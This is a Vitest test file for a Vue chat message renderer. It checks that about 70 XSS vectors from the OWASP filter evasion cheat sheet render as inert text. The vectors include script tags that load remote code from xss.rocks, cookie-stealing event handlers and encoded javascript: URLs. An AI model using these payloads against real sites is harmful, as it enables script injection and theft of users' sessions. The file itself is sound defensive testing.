import { createSSRApp, h } from 'vue'
import { renderToString } from 'vue/server-renderer'
import { describe, expect, it } from 'vitest'
import MessageText from './MessageText.vue'

/** Rendered to HTML as the browser would build it: Vue escapes every text node (<, >, &, ", '). */
const render = (text: string, props: { myName?: string; names?: string[] } = {}) =>
  renderToString(createSSRApp({ render: () => h(MessageText, { text, ...props }) }))

/** the elements the component may make, and the attributes they may carry */
const ALLOWED_ELEMENTS = new Set(['div', 'strong', 'em', 'code', 'pre', 'blockquote', 'a', 'mark', 'span'])
const ALLOWED_ATTRIBUTES = new Set(['role', 'class', 'href', 'rel', 'target'])

interface Tag {
  name: string
  attributes: Map<string, string>
}

/** Every start tag in the HTML; any < that is no tag would have been escaped, so none is missed. */
function tagsOf(html: string): Tag[] {
  return [...html.matchAll(/<([a-zA-Z][\w-]*)((?:\s+[^\s=>]+(?:="[^"]*")?)*)\s*>/g)].map((match) => ({
    name: match[1]!.toLowerCase(),
    attributes: new Map(
      [...match[2]!.matchAll(/\s+([^\s=>]+)(?:="([^"]*)")?/g)].map((attribute) => [
        attribute[1]!.toLowerCase(),
        attribute[2] ?? '',
      ]),
    ),
  }))
}

/** the text a reader sees: tags and Vue's fragment comments gone, the five escapes undone */
const textOf = (html: string) =>
  html
    .replace(/<!--[^]*?-->/g, '')
    .replace(/<[^>]*>/g, '')
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&quot;/g, '"')
    .replace(/&#39;/g, "'")
    .replace(/&amp;/g, '&')

/** the element tree is only of allowed elements and attributes; links only to http(s) and safe */
function expectOnlySafeMarkup(html: string, input: string) {
  expect(html.startsWith('<div role="paragraph"'), input).toBe(true)
  for (const { name, attributes } of tagsOf(html)) {
    expect(ALLOWED_ELEMENTS.has(name), `<${name}> from ${input}`).toBe(true)
    for (const attribute of attributes.keys())
      expect(
        ALLOWED_ATTRIBUTES.has(attribute) || /^data-v-\w+$/.test(attribute),
        `${attribute} in ${input}`,
      ).toBe(true)
    if (name === 'a') {
      expect(new URL(attributes.get('href')!).protocol, input).toMatch(/^https?:$/)
      expect(attributes.get('rel')).toBe('noopener noreferrer')
      expect(attributes.get('target')).toBe('_blank')
    }
  }
}

/**
 * Vectors from the OWASP XSS Filter Evasion Cheat Sheet
 * (https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html), plus the
 * Markdown-shaped and bare-scheme attacks a chat's renderer meets.
 */
const VECTORS = [
  `<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>`,
  `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(42);//'>`,
  `<IMG SRC="javascript:alert('XSS');">`,
  `<IMG SRC=javascript:alert('XSS')>`,
  `<IMG SRC=JaVaScRiPt:alert('XSS')>`,
  `<IMG SRC=javascript:alert(&quot;XSS&quot;)>`,
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  `<a onmouseover="alert(document.cookie)">xxs link</a>`,
  `<a onmouseover=alert(document.cookie)>xxs link</a>`,
  `<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>`,
  `<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>`,
  `<IMG SRC=# onmouseover="alert('xxs')">`,
  `<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`,
  `<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">`,
  `<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>`,
  `<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>`,
  `<IMG SRC="jav\tascript:alert('XSS');">`,
  `<IMG SRC="jav&#x09;ascript:alert('XSS');">`,
  `<IMG SRC="jav&#x0A;ascript:alert('XSS');">`,
  `<IMG SRC=" &#14;  javascript:alert('XSS');">`,
  `<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>`,
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  `<<SCRIPT>alert("XSS");//\\<</SCRIPT>`,
  `<SCRIPT SRC=http://xss.rocks/xss.js?< B >`,
  `</TITLE><SCRIPT>alert("XSS");</SCRIPT>`,
  `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`,
  `<BODY BACKGROUND="javascript:alert('XSS')">`,
  `<svg/onload=alert('XSS')>`,
  `<svg onload=alert(1)>`,
  `<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`,
  `<STYLE>@import'http://xss.rocks/xss.css';</STYLE>`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">`,
  `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`,
  `<TABLE BACKGROUND="javascript:alert('XSS')">`,
  `<DIV STYLE="background-image: url(javascript:alert('XSS'))">`,
  `<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>`,
  `<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`,
  `<A HREF="http://0x42.0x0000066.0x7.0x93/">XSS</A>`,
  `<A HREF="//google.com">XSS</A>`,
  `<A HREF="javascript:document.location='http://www.google.com/'">XSS</A>`,
  `<IMG SRC="livescript:[code]">`,
  `<BR SIZE="&{alert('XSS')}">`,
  `<XSS STYLE="behavior: url(xss.htc);">`,
  `<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="httx://xss.rocks/xss.js"></SCRIPT>`,
  `<IMG SRC="javascript:alert('XSS')"`,
  // Markdown and bare schemes
  `[x](javascript:alert(1))`,
  `[click](JaVaScRiPt:alert(1))`,
  `![x](javascript:alert(1))`,
  `[x]( javascript:alert(1) )`,
  `<javascript:alert(1)>`,
  `javascript:alert(1)`,
  `  JAVASCRIPT:alert(document.domain)`,
  `java\tscript:alert(1)`,
  `jav&#x61;script:alert(1)`,
  `&#106;avascript:alert(1)`,
  `javascript&colon;alert(1)`,
  `javascript://%0Aalert(1)`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:text/html,<script>alert(1)</script>`,
  `vbscript:msgbox("XSS")`,
  `file:///etc/passwd`,
  `**<script>alert(1)</script>**`,
  '`<img src=x onerror=alert(1)>`',
  '```\n<script>alert(1)</script>\n```',
  `> <img src=x onerror=alert(1)>`,
  `@<script>alert(1)</script>`,
  `https://example.com/"><script>alert(1)</script>`,
  `https://example.com/?q=<img src=x onerror=alert(1)>`,
]

describe('MessageText against the OWASP XSS filter evasion vectors', () => {
  it(`renders each of ${VECTORS.length} vectors as its own characters, with no element or attribute beyond the allowed`, async () => {
    expect(VECTORS.length).toBeGreaterThanOrEqual(30)
    for (const vector of VECTORS) {
      const html = await render(vector, { myName: 'alice' })
      expectOnlySafeMarkup(html, vector)
      // every angle bracket written is shown, as a character (but the "> " that makes a line a quote)
      expect(html.split('&lt;').length, vector).toBe(vector.split('<').length)
      expect(html.split('&gt;').length, vector).toBe(vector.replace(/^> /gm, '').split('>').length)
      // and, where no Markdown marker was in play, exactly the text written
      if (!/[`*_]|^>/m.test(vector)) expect(textOf(html), vector).toBe(vector)
    }
  })

  it('makes no link of a script URL, whatever its case, spacing or encoding', async () => {
    for (const vector of VECTORS.filter((vector) => /script|data:|file:/i.test(vector))) {
      const html = await render(vector)
      for (const { name, attributes } of tagsOf(html))
        if (name === 'a') expect(attributes.get('href'), vector).toMatch(/^https?:\/\/[^\s"'<>]*$/)
    }
    expect(tagsOf(await render('[x](javascript:alert(1))')).map((tag) => tag.name)).toEqual(['div'])
  })
})

describe('MessageText', () => {
  it('makes links that open in a new tab, cut off from this one and told nothing of it', async () => {
    const html = await render('docs at https://example.com/a?b=1&c=2 or www.example.org')
    const links = tagsOf(html).filter((tag) => tag.name === 'a')
    expect(links.map((link) => Object.fromEntries(link.attributes))).toEqual([
      expect.objectContaining({
        href: 'https://example.com/a?b=1&amp;c=2',
        rel: 'noopener noreferrer',
        target: '_blank',
      }),
      expect.objectContaining({
        href: 'https://www.example.org/',
        rel: 'noopener noreferrer',
        target: '_blank',
      }),
    ])
    expect(textOf(html)).toBe('docs at https://example.com/a?b=1&c=2 or www.example.org')
  })

  it('renders bold, italic, code, code blocks and quotes as their elements, keeping newlines', async () => {
    const html = await render('**b** *i* `c`\n> quoted\n```\nblock\n  kept\n```\nline one\nline two')
    expect(tagsOf(html).map((tag) => tag.name)).toEqual([
      'div',
      'strong',
      'em',
      'code',
      'blockquote',
      'pre',
      'code',
    ])
    expect(html).toContain('<pre data-v-')
    expect(textOf(html)).toBe('b i cquotedblock\n  keptline one\nline two')
  })

  it("marks mentions of the reader and @room, in words for screen readers, and others' mentions plainly", async () => {
    const html = await render('@Alice Smith, @bob and @room', { myName: 'alice smith', names: ['Bob'] })
    const marks = [...html.matchAll(/<mark[^>]*>(.*?)<\/mark>/g)].map((match) => textOf(match[1]!))
    expect(marks).toEqual(['@Alice Smith (mentions you)', '@room (mentions everyone)'])
    expect(html).toMatch(/<span class="mention"[^>]*>@bob<\/span>/)
    // without the reader's name, nobody is "you"
    expect(await render('@Alice Smith')).not.toContain('<mark')
  })
})
